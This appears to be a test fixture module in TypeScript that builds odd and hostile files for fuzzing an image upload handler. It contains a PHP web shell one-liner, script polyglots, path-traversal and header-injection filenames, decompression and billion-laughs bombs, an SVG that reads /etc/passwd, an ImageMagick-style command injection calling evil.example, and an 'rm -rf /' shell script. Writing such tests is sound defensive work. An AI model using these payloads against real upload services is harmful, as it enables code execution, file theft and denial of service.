/**
 * Files that try an image upload: cut off, mutated, lying about themselves, made to explode, or
 * something else entirely. The same ones at every run.
 */
import { crc32, deflateSync, gzipSync } from 'node:zlib';
import sharp, { type Sharp } from 'sharp';
import { pngOf } from './images.ts';
import { Random } from './random.ts';

export interface OddFile {
  what: string;
  bytes: Buffer;
  /** What it is called and said to be. */
  name: string;
  type: string;
}

function image(seed: number, width = 72, height = 48, channels: 3 | 4 = 3): Sharp {
  const random = new Random(seed);
  const size = width * height * channels;
  const pixels = Buffer.from(Array.from({ length: size }, () => random.below(256)));
  return sharp(pixels, { raw: { width, height, channels } });
}

/** Every odd file there is; `seed` decides how the mutated ones are mutated. */
export async function oddImages(seed: number): Promise<OddFile[]> {
  const sound = await soundImages();
  const files: OddFile[] = [
    ...sound,
    ...sound.flatMap(cutOff),
    ...sound.flatMap((file, index) => mutated(file, seed + index)),
    ...sound.slice(0, 5).flatMap(lyingAboutThemselves),
    ...(await carryingScript(sound)),
    ...(await withBrokenMetadata()),
    ...wrongDimensions(sound),
    ...(await explosive()),
    ...(await moving()),
    ...somethingElse(),
  ];
  return files;
}

const file = (what: string, bytes: Buffer | string, type = 'image/png'): OddFile => ({
  what,
  bytes: typeof bytes === 'string' ? Buffer.from(bytes, 'latin1') : bytes,
  name: `picture.${type.split('/')[1]}`,
  type,
});

async function soundImages(): Promise<OddFile[]> {
  const made: [string, string, Promise<Buffer>][] = [
    ['JPEG', 'image/jpeg', image(1).jpeg().toBuffer()],
    ['PNG', 'image/png', image(2).png().toBuffer()],
    ['GIF', 'image/gif', image(3).gif().toBuffer()],
    ['WebP', 'image/webp', image(4).webp().toBuffer()],
    ['AVIF', 'image/avif', image(5).avif({ effort: 0 }).toBuffer()],
    ['progressive JPEG', 'image/jpeg', image(6).jpeg({ progressive: true }).toBuffer()],
    ['interlaced PNG', 'image/png', image(7).png({ progressive: true }).toBuffer()],
    ['lossless WebP', 'image/webp', image(8, 72, 48, 4).webp({ lossless: true }).toBuffer()],
    ['CMYK JPEG', 'image/jpeg', image(9).toColourspace('cmyk').jpeg().toBuffer()],
    ['PNG of 16 bits', 'image/png', image(10).toColourspace('rgb16').png().toBuffer()],
    ['PNG with a palette', 'image/png', image(11).png({ palette: true }).toBuffer()],
  ];
  return Promise.all(made.map(async ([what, type, bytes]) => file(what, await bytes, type)));
}

function cutOff(whole: OddFile): OddFile[] {
  const { length } = whole.bytes;
  const ends = [1, 2, 3, 4, 8, 11, 12, 16, 20, 24, 33, 64, 128];
  const parts = [0.3, 0.5, 0.7, 0.9].map((part) => Math.floor(length * part));
  return [...ends, ...parts, length - 12, length - 4, length - 1].map((end) => ({
    ...whole,
    what: `${whole.what}, its first ${end} of ${length} bytes`,
    bytes: whole.bytes.subarray(0, end),
  }));
}

function mutated(whole: OddFile, seed: number): OddFile[] {
  const random = new Random(seed);
  return Array.from({ length: 16 }, (_, round) => {
    const bytes = Buffer.from(whole.bytes);
    const changes = 2 ** random.below(7);
    // Half of them in the head, where it hurts most.
    const reach = round % 2 ? bytes.length : Math.min(bytes.length, 200);
    for (let i = 0; i < changes; i += 1) bytes[random.below(reach)] = random.below(256);
    return { ...whole, what: `${whole.what}, mutation ${round} of seed ${seed}`, bytes };
  });
}

function lyingAboutThemselves(sound: OddFile): OddFile[] {
  const names = [
    ['evil.php', 'application/x-php'],
    ['../../../etc/cron.d/evil', 'text/plain'],
    ['page.html', 'text/html'],
    ['drawing.svg', 'image/svg+xml'],
    ['\u202egnp.exe', 'application/octet-stream'],
    [`${'x'.repeat(4_000)}.png`, 'image/png'],
    ['a"; filename="b.html', ''],
    ['..', 'multipart/form-data; boundary=x'],
  ] as const;
  return names.map(([name, type]) => ({
    ...sound,
    what: `${sound.what} called ${name.slice(0, 40)}`,
    name,
    type,
  }));
}

/** Images that are a page, a script or an archive as well. */
async function carryingScript(sound: OddFile[]): Promise<OddFile[]> {
  const script = '<script>alert(document.domain)</script>';
  const php = '<?php system($_GET["c"]); ?>';
  const archive = Buffer.from('PK\u0003\u0004 an archive', 'latin1');
  const [jpeg, png, gif] = sound.map(({ bytes }) => bytes) as [Buffer, Buffer, Buffer];
  const commented = await image(20)
    .withExif({ IFD0: { ImageDescription: script } })
    .jpeg()
    .toBuffer();
  const behind = sound.flatMap((one) =>
    [script, php, archive].map((tail, index) => ({
      ...one,
      what: `${one.what} with ${['a script', 'PHP', 'an archive'][index]} behind it`,
      bytes: Buffer.concat([one.bytes, Buffer.from(tail)]),
    })),
  );
  return [
    ...behind,
    file('GIF that is JavaScript', `GIF89a=1;/*${'\0'.repeat(20)}*/alert(1)//;`, 'image/gif'),
    file('GIF that is JavaScript and an image', gifScript(gif), 'image/gif'),
    file('JPEG with a page in its EXIF', commented, 'image/jpeg'),
    file('JPEG with PHP in a comment', segment(jpeg, 0xfe, Buffer.from(php)), 'image/jpeg'),
    file('PNG with a script in a text', chunk(png, 'tEXt', Buffer.from(`Comment\0${script}`))),
    file('PNG with a chunk of its own', chunk(png, 'evIl', Buffer.from(script))),
    file('page before a PNG', Buffer.concat([Buffer.from(script), png])),
    file('archive before a JPEG', Buffer.concat([archive, jpeg]), 'image/jpeg'),
  ];
}

// The width of the screen is the text `/*`, which opens a comment that ends behind the image.
function gifScript(gif: Buffer): Buffer {
  const bytes = Buffer.from(gif);
  bytes.write('/*', 6, 'latin1');
  return Buffer.concat([bytes, Buffer.from('*/=1;alert(1)')]);
}

async function withBrokenMetadata(): Promise<OddFile[]> {
  const [jpeg, png] = [await image(30).jpeg().toBuffer(), await image(31).png().toBuffer()];
  const orientation = (value: number, byteOrder = 'MM') => {
    const tiff = Buffer.from('4d4d002a00000008000101120003000000010000000000000000', 'hex');
    tiff.writeUInt16BE(value, 18);
    tiff.write(byteOrder, 0, 'latin1');
    return Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff]);
  };
  const loop = orientation(6);
  loop.writeUInt32BE(8, loop.length - 4); // The next directory is this one.
  const profile = (bytes: Buffer) =>
    Buffer.concat([Buffer.from('ICC_PROFILE\0\u0001\u0001', 'latin1'), bytes]);
  const noise = Buffer.from(Array.from({ length: 3_000 }, (_, i) => (i * 167) % 251));
  const png16 = (data: Buffer) => Buffer.concat([Buffer.from('icc\0\0', 'latin1'), data]);
  const files = [0, 1, 3, 5, 6, 8, 9, 255, 65_535].map((value) =>
    file(`JPEG of orientation ${value}`, segment(jpeg, 0xe1, orientation(value)), 'image/jpeg'),
  );
  return [
    ...files,
    file(
      'JPEG with EXIF of no byte order',
      segment(jpeg, 0xe1, orientation(6, 'XX')),
      'image/jpeg',
    ),
    file('JPEG with EXIF in a circle', segment(jpeg, 0xe1, loop), 'image/jpeg'),
    file(
      'JPEG with half of its EXIF',
      segment(jpeg, 0xe1, orientation(6).subarray(0, 15)),
      'image/jpeg',
    ),
    file('JPEG with noise for a profile', segment(jpeg, 0xe2, profile(noise)), 'image/jpeg'),
    file('JPEG with an empty profile', segment(jpeg, 0xe2, profile(Buffer.alloc(0))), 'image/jpeg'),
    file('JPEG with noise for XMP', segment(jpeg, 0xe1, noise), 'image/jpeg'),
    file('PNG with noise for a profile', chunk(png, 'iCCP', png16(deflateSync(noise)))),
    file('PNG with a profile that is not packed', chunk(png, 'iCCP', png16(noise))),
    file('PNG with EXIF of noise', chunk(png, 'eXIf', noise)),
    file('PNG with a gamma of nothing', chunk(png, 'gAMA', Buffer.alloc(4))),
    file('PNG with a wide profile', await image(32).withIccProfile('p3').png().toBuffer()),
    file(
      'JPEG with 300 comments',
      many(jpeg, 300, (b) => segment(b, 0xfe, Buffer.from('x'))),
      'image/jpeg',
    ),
  ];
}

function wrongDimensions(sound: OddFile[]): OddFile[] {
  const [jpeg, , gif, webp] = sound.map(({ bytes }) => bytes) as [Buffer, Buffer, Buffer, Buffer];
  const sizes: [number, number][] = [
    [0, 0],
    [1, 0],
    [1, 65_535],
    [65_535, 65_535],
    [2 ** 31 - 1, 1],
    [2 ** 31 - 1, 2 ** 31 - 1],
    [2 ** 31, 2 ** 31],
  ];
  const frame = jpeg.indexOf(Buffer.from('ffc0', 'hex'));
  return [
    ...sizes.map(([w, h]) => file(`PNG of ${w} by ${h} by its header`, pngOf(w, h, true))),
    ...sizes.slice(0, 4).flatMap(([w, h]) => {
      const bytes = Buffer.from(jpeg);
      bytes.writeUInt16BE(h, frame + 5);
      bytes.writeUInt16BE(w, frame + 7);
      const screen = Buffer.from(gif);
      screen.writeUInt16LE(w, 6);
      screen.writeUInt16LE(h, 8);
      return [
        file(`JPEG of ${w} by ${h} by its header`, bytes, 'image/jpeg'),
        file(`GIF of ${w} by ${h} by its header`, screen, 'image/gif'),
      ];
    }),
    ...[0x3fff, 0].map((size) => {
      const bytes = Buffer.from(webp);
      bytes.writeUInt16LE(size, 26);
      bytes.writeUInt16LE(size, 28);
      return file(`WebP of ${size} by ${size} by its header`, bytes, 'image/webp');
    }),
  ];
}

/** Small files that are large once they are unpacked, and large ones. */
async function explosive(): Promise<OddFile[]> {
  const png = await image(40).png().toBuffer();
  const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 ** 2);
  const packed = deflateSync(zeros(200));
  const text = (data: Buffer) => Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), data]);
  const grey = sharp(zeros(36), { raw: { width: 6_144, height: 6_144, channels: 1 } });
  return [
    file('PNG of 39 megapixels', pngOf(7_800, 5_000)),
    file('PNG of 41 megapixels', pngOf(8_200, 5_000)),
    file('PNG of 900 megapixels', pngOf(30_000, 30_000)),
    file('PNG one pixel wide', pngOf(1, 30_000)),
    file('PNG one pixel high', pngOf(60_000, 1)),
    file(
      'progressive JPEG of 37 megapixels',
      await grey.clone().jpeg({ progressive: true }).toBuffer(),
      'image/jpeg',
    ),
    file(
      'WebP of 37 megapixels',
      await grey.clone().webp({ effort: 0, lossless: true }).toBuffer(),
      'image/webp',
    ),
    file('PNG with 200 MB of packed text', chunk(png, 'zTXt', text(packed))),
    file('PNG with a profile of 200 MB', chunk(png, 'iCCP', text(packed))),
    file('PNG with 7 MB of text', chunk(png, 'tEXt', text(zeros(7)))),
    file(
      'PNG with 2,000 texts',
      many(png, 2_000, (b) => chunk(b, 'tEXt', Buffer.from('a\0b'))),
    ),
    file('PNG and 7 MB of nothing', Buffer.concat([png, zeros(7)])),
    file('8 MB of nothing', zeros(8)),
    file('9 MB that begin as a PNG', Buffer.concat([png, zeros(9)])),
    file('8 MB of the first byte of a JPEG', zeros(8).fill(0xff), 'image/jpeg'),
  ];
}

async function moving(): Promise<OddFile[]> {
  const frames = (count: number, size: number) =>
    Promise.all(
      Array.from({ length: count }, (_, i) =>
        image(50 + i, size, size)
          .png()
          .toBuffer(),
      ),
    );
  const join = async (count: number, size: number) =>
    sharp(await frames(count, size), { join: { animated: true } });
  const png = await image(60).png().toBuffer();
  const control = Buffer.alloc(8);
  control.writeUInt32BE(100, 0);
  return [
    file('GIF of 3 frames', await (await join(3, 40)).gif().toBuffer(), 'image/gif'),
    file(
      'GIF of 1,000 frames',
      manyFrames(await image(61, 8, 8).gif().toBuffer(), 1_000),
      'image/gif',
    ),
    file(
      'GIF of 20,000 frames',
      manyFrames(await image(62, 8, 8).gif().toBuffer(), 20_000),
      'image/gif',
    ),
    file('WebP of 5 frames', await (await join(5, 30)).webp().toBuffer(), 'image/webp'),
    file('PNG that says it moves', chunk(png, 'acTL', control)),
  ];
}

/** The frame of a GIF again and again. */
function manyFrames(gif: Buffer, count: number): Buffer {
  const colors = 3 * 2 ** (((gif[10] ?? 0) & 7) + 1);
  const head = gif.subarray(0, 13 + ((gif[10] ?? 0) & 0x80 ? colors : 0));
  const frame = gif.subarray(head.length, -1);
  return Buffer.concat([head, ...Array.from({ length: count }, () => frame), gif.subarray(-1)]);
}

function somethingElse(): OddFile[] {
  const svg =
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>';
  const entities = `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "${'x'.repeat(1_000)}">${Array.from({ length: 9 }, (_, i) => `<!ENTITY a${i} "${`&a${i ? i - 1 : ''};`.repeat(10)}">`).join('')}]><svg>&a8;</svg>`;
  const brands = (brand: string) =>
    `\0\0\0\u0018ftyp${brand}\0\0\0\0mif1${brand}${'\0'.repeat(80)}`;
  const texts: [string, string][] = [
    ['nothing', ''],
    ['a space', ' '],
    ['a page', '<!doctype html><script>alert(1)</script>'],
    ['an SVG', svg],
    ['an SVG with a head', `<?xml version="1.0"?>${svg}`],
    ['an SVG behind a byte order mark', `\u00ef\u00bb\u00bf${svg}`],
    ['an SVG behind 4 KB of spaces', ' '.repeat(4_096) + svg],
    ['a billion laughs', entities],
    [
      'an SVG that reads a file',
      svg.replace('<script>', '<image href="file:///etc/passwd"/><script>'),
    ],
    ['a PDF', '%PDF-1.7\n%\u00e2\u00e3'],
    ['PostScript', '%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n'],
    [
      'a drawing of commands',
      'push graphic-context\nviewbox 0 0 9 9\nfill \'url(https://evil.example/"|id")\'\n',
    ],
    ['commands in XML', '<image><read filename="caption:&lt;?php ?&gt;"/></image>'],
    ['an X bitmap', '#define x_width 9\n#define x_height 9\nstatic char x_bits[] = {0x00};'],
    ['a portable pixmap', 'P6 2 2 255\n\0\0\0\0\0\0\0\0\0\0\0\0'],
    ['a bitmap', `BM${'\0'.repeat(80)}`],
    ['a TIFF', `II*\0\u0008${'\0'.repeat(80)}`],
    ['a large TIFF', `MM\0+\0\u0008${'\0'.repeat(80)}`],
    ['an icon', `\0\0\u0001\0\u0001\0${'\0'.repeat(80)}`],
    ['a Photoshop file', `8BPS\0\u0001${'\0'.repeat(80)}`],
    ['a JPEG 2000', `\0\0\0\u000cjP  \r\n\u0087\n${'\0'.repeat(80)}`],
    ['a JPEG XL', `\u00ff\u000a${'\0'.repeat(80)}`],
    ['a HEIC', brands('heic')],
    ['a film', brands('isom')],
    ['an AVIF of brands alone', brands('avif')],
    ['an AVIF sequence of brands alone', brands('avis')],
    ['an AVIF with a box without end', `\0\0\0\0ftypavif${'\0'.repeat(80)}`],
    ['an AVIF with a box of 4 GB', `\u00ff\u00ff\u00ff\u00ffftypavif${'avif'.repeat(20)}`],
    ['a sound', 'RIFF\u0024\0\0\0WAVEfmt '],
    ['a RIFF that says WEBP and no more', 'RIFF\u0004\0\0\0WEBP'],
    ['a WebP of a size that is none', `RIFF\u00ff\u00ff\u00ff\u00ffWEBPVP8X${'\0'.repeat(40)}`],
    ['a GIF of another year', `GIF90a${'\0'.repeat(40)}`],
    ['a GIF without images', 'GIF89a\u0001\0\u0001\0\0\0\0;'],
    ['a GIF that only ends', 'GIF87a;'],
    ['a PNG that only ends', '\u0089PNG\r\n\u001a\n\0\0\0\0IEND\u00aeB`\u0082'],
    ['a PNG after a transfer as text', '\u0089PNG\n\u001a\n\0\0\0\rIHDR'],
    ['a JPEG that only ends', '\u00ff\u00d8\u00ff\u00d9'],
    ['a JPEG of markers', `\u00ff\u00d8${'\u00ff\u00e0\0\u0002'.repeat(5_000)}`],
    ['a program', `\u007fELF\u0002\u0001\u0001${'\0'.repeat(80)}`],
    ['a program for Windows', `MZ${'\0'.repeat(80)}`],
    ['an archive', `PK\u0003\u0004${'\0'.repeat(80)}`],
    ['a shell script', '#!/bin/sh\nrm -rf /\n'],
    ['an address', 'https://i.ibb.co/x/tee.webp'],
    ['an image as text', 'data:image/png;base64,iVBORw0KGgo='],
  ];
  return [
    ...texts.map(([what, text]) => file(what, text)),
    file('a packed SVG', gzipSync(svg), 'image/svg+xml'),
    file('a packed bomb', gzipSync(Buffer.alloc(50 * 1024 ** 2)), 'image/png'),
  ];
}

/** A JPEG with a segment behind its start. */
function segment(jpeg: Buffer, marker: number, data: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(data.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, data, jpeg.subarray(2)]);
}

/** A PNG with a chunk behind its header. */
function chunk(png: Buffer, type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const ends = Buffer.alloc(8);
  ends.writeUInt32BE(data.length, 0);
  ends.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([
    png.subarray(0, 33),
    ends.subarray(0, 4),
    body,
    ends.subarray(4),
    png.subarray(33),
  ]);
}

function many(bytes: Buffer, count: number, add: (bytes: Buffer) => Buffer): Buffer {
  let grown = bytes;
  for (let i = 0; i < count; i += 1) grown = add(grown);
  return grown;
}
